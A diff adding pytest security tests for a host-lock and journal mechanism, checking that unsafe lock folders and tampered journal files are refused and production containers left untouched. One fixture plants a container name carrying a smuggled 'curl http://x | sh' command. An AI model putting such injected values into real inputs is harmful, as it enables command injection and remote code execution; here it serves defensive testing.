@@ -13,6 +13,7 @@ from __future__ import annotations
 import json
 import os
 import re
+import shlex
 import signal
 import subprocess
 import time
@@ -20,7 +21,7 @@ from pathlib import Path
 
 import pytest
 
-from sparkgate.hostlock import JOURNAL, LOCK_DIR, HostLock
+from sparkgate.hostlock import JOURNAL, LOCK_DIR, LOCK_SUBPATH, HostLock
 from sparkgate.launch.container_spec import LABEL, SAVED_SUFFIX
 from sparkgate.results import Results
 
@@ -108,6 +109,12 @@ def assert_production_is_back(dock, prod) -> None:
     assert (c.name, c.status) == (PROD, "running"), f"production is {c.name} ({c.status})"
     assert c.attrs["Config"]["Env"] == prod.attrs["Config"]["Env"] and c.attrs["Config"]["Cmd"] == prod.attrs[
         "Config"]["Cmd"], "production came back with another config"
+
+
+def assert_untouched(dock, prod) -> None:
+    c = dock.client.containers.get(prod.id)
+    assert (c.name, c.status, c.attrs["State"]["StartedAt"]) == (PROD, "running", prod.attrs["State"]["StartedAt"]), \
+        f"production was touched: {c.name} ({c.status}, started {c.attrs['State']['StartedAt']})"
 
 
 def assert_no_secret(text: str) -> None:
@@ -293,11 +300,83 @@ def test_a_second_run_at_once_is_refused_with_who_holds_the_host(dock, productio
     assert wait_no_leftovers(dock) == []
 
 
+HOST_LOCK_DIR = f"/root/{LOCK_SUBPATH}"  # the run's user on the test host is root
+UNSAFE_FOLDERS = {
+    # how another user gets a lock folder the next run would trust, and what the suite says
+    "another user's": (f"mkdir -p {HOST_LOCK_DIR} && chmod 700 {HOST_LOCK_DIR} && chown -R 65534 {HOST_LOCK_DIR}",
+                       f"{HOST_LOCK_DIR} is owned by uid 65534, not by this user (uid 0)"),
+    "a symbolic link": (f"mkdir -p /tmp/elsewhere /root/.cache && ln -s /tmp/elsewhere {HOST_LOCK_DIR}",
+                        f"{HOST_LOCK_DIR} is a symbolic link"),
+    "writable by everyone": (f"mkdir -p {HOST_LOCK_DIR} && chmod 1777 {HOST_LOCK_DIR}",
+                             f"{HOST_LOCK_DIR} has mode 1777, not 700: other users can write into it"),
+}
+
+
+def _planted_journal(prod_id: str) -> str:
+    return json.dumps([{"kind": "set-aside", "name": "sg-prod; curl http://x | sh", "id": prod_id, "running": True}])
+
+
+@pytest.mark.parametrize("how", UNSAFE_FOLDERS)
+def test_a_lock_folder_another_user_could_write_is_refused_and_nothing_is_touched(dock, production, how):
+    """The journal in it names production, as another user would plant it: the run MUST refuse (exit 4) before
+    reading it, and touch nothing."""
+    make, words = UNSAFE_FOLDERS[how]
+    dock.host.run(make, check=True)
+    dock.host.run(f"printf %s {shlex.quote(_planted_journal(production.id))} > {HOST_LOCK_DIR}/journal.json")
+    try:
+        run = Terminal("tests", f"--host={dock.host.name}", f"--ssh-config={dock.host.ssh_config}", "-m", "host",
+                       "-k", "architecture")
+        rc = run.finish()
+        out = run.output
+    finally:
+        dock.host.run(f"rm -rf {HOST_LOCK_DIR} /tmp/elsewhere")
+    assert rc == pytest.ExitCode.USAGE_ERROR, out[-3000:]
+    assert f"the run lock folder on spark01d is not safe to use: {words}" in out, out[-3000:]
+    assert "Nothing was touched" in out and "curl" not in out, out[-3000:]
+    assert_untouched(dock, production)
+
+
+def test_a_journal_this_suite_did_not_write_is_one_error_and_is_left_for_the_operator(dock, production):
+    """In the run's own folder, a journal that fails the entry schema (a container name no docker allows, carrying
+    a command) MUST be refused naming the file and the field, acted on in no way, and left where it is."""
+    dock.host.run(f"mkdir -p -m 700 {HOST_LOCK_DIR}", check=True)
+    dock.host.run(f"printf %s {shlex.quote(_planted_journal(production.id))} > {HOST_LOCK_DIR}/journal.json")
+    try:
+        run = Terminal("tests", f"--host={dock.host.name}", f"--ssh-config={dock.host.ssh_config}", "-m", "host",
+                       "-k", "architecture")
+        rc = run.finish()
+        out = run.output
+        left = dock.host.run(f"cat {HOST_LOCK_DIR}/journal.json").stdout
+    finally:
+        dock.host.run(f"rm -rf {HOST_LOCK_DIR}")
+    assert rc == pytest.ExitCode.USAGE_ERROR, out[-3000:]
+    assert "is not one this suite wrote (0.set-aside.name: String should match pattern" in out, out[-3000:]
+    assert "nothing was touched and it is left as it is" in out and "Traceback" not in out, out[-3000:]
+    assert left == _planted_journal(production.id)
+    assert_untouched(dock, production)
+
+
+def test_a_create_entry_naming_production_removes_only_what_carries_the_runs_label(dock, production):
+    """A well-formed journal (the run's own folder) whose `create` names production's id: undo MUST remove only a
+    container carrying that run's label, so production stays, and the run says there was nothing to remove."""
+    entry = [{"kind": "create", "name": PROD, "run": "0123456789ab", "id": production.id}]
+    dock.host.run(f"mkdir -p -m 700 {HOST_LOCK_DIR}", check=True)
+    dock.host.run(f"printf %s {shlex.quote(json.dumps(entry))} > {HOST_LOCK_DIR}/journal.json")
+    run = Terminal("tests", f"--host={dock.host.name}", f"--ssh-config={dock.host.ssh_config}", "-m", "host", "-k",
+                   "architecture")
+    rc = run.finish()
+    out = run.output
+    assert rc == 0, out[-3000:]
+    assert f"{PROD} left as it is: it does not carry run 0123456789ab's label (not the suite's)" in out, out[-3000:]
+    assert_untouched(dock, production)
+    assert wait_no_leftovers(dock) == []
+
+
 def test_a_lock_record_left_by_a_dead_run_is_reported_and_taken_over():
     """The kernel releases a dead holder's flock; the record it left (a host that lost the run's ssh session
     kills it before it can clean up) is reported as the holder whose lock was taken over."""
-    lock_dir = Path(LOCK_DIR)
-    lock_dir.mkdir(exist_ok=True)
+    lock_dir = Path.home() / LOCK_SUBPATH
+    lock_dir.mkdir(mode=0o700, parents=True, exist_ok=True)
     (lock_dir / "holder-4242").write_text('{"user": "ops", "client": "laptop", "pid": 999999, "started": '
                                          '"2026-11-30T23:00:00+00:00", "command": "pytest --host=spark01"}\n')
     lock = HostLock("local")
